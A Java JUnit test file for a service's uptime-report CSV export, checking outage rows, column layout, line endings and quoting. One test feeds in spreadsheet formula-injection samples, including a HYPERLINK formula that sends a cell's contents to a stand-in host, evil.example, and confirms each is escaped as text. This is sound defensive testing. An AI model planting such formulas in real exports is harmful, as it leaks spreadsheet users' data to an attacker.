package io.nines.query.reports.paper;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.MappingIterator;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;
import io.nines.reports.Report;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class ReportCsvTest {
    private static final CsvMapper READER =
            CsvMapper.builder().enable(CsvParser.Feature.WRAP_AS_ARRAY).build();

    @Test
    void everyOutageIsARowWithItsEvidence() throws IOException {
        List<List<String>> rows = read(Samples.missed(), CsvTable.OUTAGES);
        assertThat(rows).hasSize(6);
        assertThat(rows.get(0)).isEqualTo(CsvTable.OUTAGES.columns());
        assertThat(rows.get(1))
                .containsExactly(
                        "2026-10-06T12:21:07.000Z",
                        "2026-10-06T12:47:21.000Z",
                        "2026-10-06T12:21:07.000Z",
                        "2026-10-06T12:47:21.000Z",
                        "false",
                        "1574000",
                        "1574000",
                        "payouts",
                        "incidenta001",
                        "outage40118223 payouts nines.checks/3:40118223-40121904",
                        "down");
    }

    @Test
    void aPartialOutageHasThePositionsOfItsChangesOfStatus() throws IOException {
        List<String> row = read(Samples.partlyDown(), CsvTable.OUTAGES).get(1);
        assertThat(row.subList(9, 11)).containsExactly("partial payouts position 15019", "partial");
    }

    @Test
    void everyTableHasAHeadAndAsManyCellsInEachRow() throws IOException {
        for (Report report : Samples.scenes().values()) {
            for (CsvTable table : CsvTable.values()) {
                List<List<String>> rows = read(report, table);
                assertThat(rows.get(0)).isEqualTo(table.columns());
                assertThat(rows).allSatisfy(row -> assertThat(row).hasSameSizeAs(table.columns()));
            }
        }
        assertThat(read(Samples.missed(), CsvTable.EXCLUDED)).hasSize(5);
        assertThat(read(Samples.missed(), CsvTable.MAINTENANCE)).hasSize(2);
        assertThat(read(Samples.missed(), CsvTable.CORRECTIONS).get(1)).contains("Late results from the EU probes.");
        assertThat(read(Samples.missed(), CsvTable.SUMMARY).get(1)).contains("99.856264", "480.00", "17903");
    }

    @Test
    void linesEndAsTheRfcSays() {
        String text =
                new String(ReportCsv.bytes(Samples.met(), CsvTable.OUTAGES, Samples.RESOLVED), StandardCharsets.UTF_8);
        assertThat(text).isEqualTo(String.join(",", CsvTable.OUTAGES.columns()) + "\r\n");
    }

    @Test
    void whatLooksLikeAFormulaStaysText() throws IOException {
        for (String formula : List.of(
                "=HYPERLINK(\"http://evil.example?\"&A1,\"Refund\")",
                "+1+1",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1",
                "\r=1",
                "＝1")) {
            List<String> row = read(Samples.hostile(formula), CsvTable.SUMMARY).get(1);
            assertThat(row.get(1)).isEqualTo("'" + formula);
        }
    }

    @Test
    void negativeNumbersStayNumbers() throws IOException {
        Report report = Samples.hostile("x");
        int column = CsvTable.CORRECTIONS.columns().indexOf("counted_down_change_millis");
        assertThat(read(report, CsvTable.CORRECTIONS).get(1).get(column)).isEqualTo("-60000");
    }

    @Test
    void quotesCommasAndNewLinesSurvive() throws IOException {
        for (String name :
                List.of("a, b", "say \"no\"", "two\r\nlines", "one\nmore", "ends with \"", " spaces ", "Łódź 北京 🚀")) {
            assertThat(read(Samples.hostile(name), CsvTable.SUMMARY).get(1).get(1))
                    .isEqualTo(name);
        }
    }

    private static List<List<String>> read(Report report, CsvTable table) throws IOException {
        byte[] bytes = ReportCsv.bytes(report, table, Samples.RESOLVED);
        try (MappingIterator<String[]> rows = READER.readerFor(String[].class).readValues(bytes)) {
            return rows.readAll().stream().map(List::of).toList();
        }
    }
}
